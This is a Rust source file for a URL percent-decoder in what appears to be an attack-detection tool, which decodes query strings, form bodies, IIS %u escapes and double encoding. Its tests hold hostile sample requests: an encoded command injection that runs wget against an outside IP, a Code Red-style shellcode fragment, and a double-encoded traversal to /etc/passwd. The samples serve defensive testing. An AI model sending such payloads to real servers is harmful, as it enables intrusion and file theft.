//! The `percent` decoder: URL-encoded payloads (`%2F`, `%20`, IIS-style `%u0041`)
//! are percent-decoded into a decoded copy when they hold at least `min_escapes`
//! escapes, so commands hidden in query strings and form bodies become readable.
//!
//! The whole input is decoded (text around the escapes is kept). `+` becomes a
//! space where it means one: in a query string (after `?`, up to the next
//! whitespace) and in the body of a request sent as
//! `application/x-www-form-urlencoded`. `%uXXXX` below 0x80 becomes that ASCII
//! byte, above it the two bytes little-endian (as IIS put them in memory: how
//! Code Red carried its shellcode). The copy is never longer than the input.
//! Double encoding (`%2541`) is undone one level per decoding depth.

use super::decoding::{self, find, find_ci};
use super::registry::{self, Options, Registration};
use super::{Analyzer, Decoded, Input, Output, Stage};
use serde::{Deserialize, Serialize};

pub const NAME: &str = "percent";

/// `[analyzer.percent]`.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct PercentOptions {
    pub enabled: bool,
    /// Fewest escapes an input must hold to be decoded.
    pub min_escapes: usize,
}

impl Default for PercentOptions {
    fn default() -> Self {
        PercentOptions {
            enabled: true,
            min_escapes: 3,
        }
    }
}

impl Options for PercentOptions {
    fn enabled(&self) -> bool {
        self.enabled
    }
}

fn check(o: &PercentOptions) -> Result<(), (String, String)> {
    decoding::in_range("min_escapes", o.min_escapes as u64, 1, 1 << 20)
}

pub fn registration() -> Registration {
    Registration {
        name: NAME,
        stage: Stage::Decode,
        about: "percent-decodes URL-encoded payloads (query strings, form bodies, %uXXXX)",
        options: |t| decoding::checked(t, check),
        build: |t, _| registry::build_with(t, |o: PercentOptions| Ok(Percent { o })),
    }
}

/// The decoder.
pub struct Percent {
    o: PercentOptions,
}

impl Percent {
    pub fn new(o: PercentOptions) -> Percent {
        Percent { o }
    }
}

impl Analyzer for Percent {
    fn name(&self) -> &'static str {
        NAME
    }
    fn stage(&self) -> Stage {
        Stage::Decode
    }
    fn run(&self, input: &Input, out: &mut Output) -> anyhow::Result<()> {
        if is_binary(input.data) {
            return Ok(());
        }
        let d = decode(input.data);
        if d.escapes < self.o.min_escapes {
            return Ok(());
        }
        let (first, last) = (d.first as u64, d.last as u64);
        out.finding(
            NAME,
            "percent",
            format!(
                "URL-encoded: {} escapes decoded, {} bytes to {}",
                d.escapes,
                input.data.len(),
                d.data.len()
            ),
        )
        .at(first, last - first)
        .meta("escapes", d.escapes as u64)
        .meta("decoded_bytes", d.data.len() as u64);
        out.decoded.push(Decoded {
            offset: first,
            length: last - first,
            data: d.data,
        });
        Ok(())
    }
}

/// URL encoding is text: an input of which more than a tenth of the bytes are
/// neither printable ASCII nor whitespace is not decoded (stray `%41`s in binary
/// data would make copies of it).
fn is_binary(data: &[u8]) -> bool {
    let other = data
        .iter()
        .filter(|&&b| !(b.is_ascii_graphic() || b.is_ascii_whitespace()))
        .count();
    other * 10 > data.len()
}

/// The decoded input and where its escapes are.
struct Decoding {
    data: Vec<u8>,
    escapes: usize,
    /// Start of the first escape and end of the last one.
    first: usize,
    last: usize,
}

fn hex(c: u8) -> Option<u8> {
    (c as char).to_digit(16).map(|d| d as u8)
}

/// The value of the escape at `i` and its length, if it is one.
fn escape(data: &[u8], i: usize) -> Option<(u32, usize)> {
    let rest = data.get(i + 1..)?;
    match rest {
        [b'u' | b'U', a, b, c, d, ..] => {
            let v = [a, b, c, d]
                .iter()
                .try_fold(0u32, |v, &&x| Some(v << 4 | u32::from(hex(x)?)))?;
            Some((v, 6))
        }
        [a, b, ..] => Some((u32::from(hex(*a)? << 4 | hex(*b)?), 3)),
        _ => None,
    }
}

/// Where the body of a form POST starts, if the first request is one.
fn form_body(data: &[u8]) -> Option<usize> {
    let end = find(data, b"\r\n\r\n", 0)?;
    find_ci(&data[..end], b"application/x-www-form-urlencoded", 0)?;
    Some(end + 4)
}

fn decode(data: &[u8]) -> Decoding {
    let form = form_body(data).unwrap_or(usize::MAX);
    let mut d = Decoding {
        data: Vec::with_capacity(data.len()),
        escapes: 0,
        first: 0,
        last: 0,
    };
    let mut query = false;
    let mut i = 0;
    while i < data.len() {
        let c = data[i];
        match c {
            b'%' => {
                if let Some((v, n)) = escape(data, i) {
                    if d.escapes == 0 {
                        d.first = i;
                    }
                    d.escapes += 1;
                    d.last = i + n;
                    match v {
                        0..=0xff if n == 3 || v < 0x80 => d.data.push(v as u8),
                        _ => d.data.extend_from_slice(&(v as u16).to_le_bytes()),
                    }
                    i += n;
                    continue;
                }
                d.data.push(c);
            }
            b'?' => {
                query = true;
                d.data.push(c);
            }
            b' ' | b'\t' | b'\r' | b'\n' => {
                query = false;
                d.data.push(c);
            }
            b'+' if query || i >= form => d.data.push(b' '),
            _ => d.data.push(c),
        }
        i += 1;
    }
    d
}

#[cfg(test)]
mod tests {
    use super::*;

    fn run(data: &[u8]) -> Output {
        decoding::run_on(&Percent::new(PercentOptions::default()), data)
    }

    #[test]
    fn decodes_a_query_string() {
        let req = b"GET /cgi-bin/x.cgi?cmd=cd+%2Ftmp%3B+wget+http%3A%2F%2F198.51.100.7%2Fa.sh HTTP/1.1\r\nUser-Agent: a+b\r\n\r\n";
        let out = run(req);
        assert_eq!(out.decoded.len(), 1);
        let d = String::from_utf8(out.decoded[0].data.clone()).unwrap();
        assert!(
            d.starts_with(
                "GET /cgi-bin/x.cgi?cmd=cd /tmp; wget http://198.51.100.7/a.sh HTTP/1.1\r\n"
            ),
            "{d}"
        );
        assert!(
            d.contains("User-Agent: a+b"),
            "+ outside a query is kept: {d}"
        );
        let f = &out.findings[0];
        assert_eq!(f.kind, "percent");
        assert_eq!(f.meta["escapes"], 6);
        assert_eq!(f.offset, Some(26));
    }

    #[test]
    fn form_bodies_iis_unicode_and_double_encoding() {
        let req = b"POST /login HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\nu=a+b&c=%3B%3B%3B";
        assert!(run(req).decoded[0].data.ends_with(b"u=a b&c=;;;"));
        let code_red = b"GET /default.ida?NNNN%u9090%u6858%ucbd3%u0041 HTTP/1.0\r\n";
        let d = &run(code_red).decoded[0].data;
        assert!(d.starts_with(b"GET /default.ida?NNNN\x90\x90\x58\x68\xd3\xcbA HTTP/1.0"));
        let double = run(b"/%252e%252e%252fetc%252fpasswd");
        assert_eq!(double.decoded[0].data, b"/%2e%2e%2fetc%2fpasswd");
        assert_eq!(
            run(&double.decoded[0].data).decoded[0].data,
            b"/../etc/passwd"
        );
    }

    #[test]
    fn too_few_escapes_or_none() {
        assert!(run(b"GET /a%20b HTTP/1.0\r\n\r\n").decoded.is_empty());
        assert!(run(b"100% sure, %zz %4").decoded.is_empty());
        let mut binary: Vec<u8> = (0..=255u8).collect();
        binary.extend(b"%41%42%43%44");
        assert!(run(&binary).decoded.is_empty());
    }
}
